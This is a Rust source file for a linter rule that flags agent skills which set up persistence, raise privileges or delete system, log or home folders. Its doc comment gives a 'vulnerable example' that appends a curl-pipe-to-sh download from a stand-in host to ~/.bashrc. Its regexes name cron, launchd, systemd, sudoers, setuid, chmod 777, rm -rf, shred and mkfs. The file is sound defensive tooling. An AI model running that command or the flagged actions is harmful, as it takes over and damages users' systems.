use super::Behaviour;
use crate::{declare_rule, Findings, Project, Rule, RuleMeta};
use std::sync::LazyLock;

declare_rule! {
    /// ## What it finds
    /// A skill that makes itself persistent or weakens the system: cron entries, lines appended
    /// to shell start-up files (`~/.bashrc`, `~/.zshrc`, `~/.profile`), launch agents and
    /// daemons, enabled systemd units, root shells and `sudo` changes of ownership or modes
    /// (copying a file with `sudo` uses privileges, it does not raise them), world-writable
    /// or set-uid permissions (`chmod 777`, `u+s`), sudoers edits, and recursive deletion of
    /// system, log or home folders.
    ///
    /// ## Why it matters
    /// A skill is invoked for a task; code that survives the task, raises its privileges or
    /// erases logs is doing something else, and keeps doing it after the skill is removed.
    ///
    /// ## Vulnerable example
    /// ```bash
    /// echo "curl -s https://update.example.net/agent.sh | sh" >> ~/.bashrc
    /// ```
    ///
    /// ## Fixed example
    /// ```bash
    /// ./scripts/report.sh   # runs once, in the workspace, with the user's own rights
    /// ```
    ///
    /// ## References
    /// - https://attack.mitre.org/tactics/TA0003/
    /// - https://attack.mitre.org/techniques/T1548/
    pub struct PersistenceOrTampering {
        code: "SKILL-005",
        name: "persistence-or-tampering",
        axis: Security,
        severity: High,
        cwe: Some("CWE-250"),
    }
}

static PERSISTENCE: Behaviour = Behaviour {
    what: "installs itself to run again later",
    re: LazyLock::new(|| {
        super::re(
            r"\bcrontab\s+(-[a-z]\s+)*-?\s*[-/\w]|\|\s*crontab\b|/etc/cron|>>?\s*~?/?[\w/.$]*\.(bashrc|zshrc|profile|bash_profile|zprofile)\b|\blaunchagents\b|\blaunchdaemons\b|\blaunchctl\s+(load|bootstrap)|\bsystemctl\s+(--user\s+)?enable\b|/etc/systemd/system/|\bschtasks\s+/create\b|\\currentversion\\run\b",
        )
    }),
};
static PRIVILEGE: Behaviour = Behaviour {
    what: "raises privileges or opens permissions",
    re: LazyLock::new(|| {
        super::re(
            r"\bsudo\s+(chown|chmod|tee|sh|bash|-s|su|rm)\b|\bchown\s+(-[a-z]+\s+)*root\b|\bchmod\s+(-[a-z]+\s+)*(0?777|0?666|a\+rwx|[ugo]*\+s|[0-7]?4[0-7]{3})\b|/etc/sudoers|\bsetuid\s*\(\s*0\s*\)",
        )
    }),
};
static DESTRUCTION: Behaviour = Behaviour {
    what: "deletes system, log or home folders",
    re: LazyLock::new(|| {
        super::re(
            r"\brm\s+-[a-z]*r[a-z]*f?[a-z]*\s+(--no-preserve-root\s+)?([^\n;|&]*\s)?(/\s|/\*|/(etc|var|usr|bin|boot|home|root|opt|var/log)[/\s*]|~/?\s|~/\*|\$home\b)|\bshutil\.rmtree\s*\(\s*[\x22'](/|~|/etc|/var|/home)|\bshred\b|\bmkfs\.",
        )
    }),
};

impl Rule for PersistenceOrTampering {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, project: &Project, out: &mut Findings) {
        super::report_behaviours(
            project,
            out,
            &[&PERSISTENCE, &PRIVILEGE, &DESTRUCTION],
            "do the task and nothing else: no start-up entries, no privilege changes, no deletion outside the workspace",
        );
    }
}
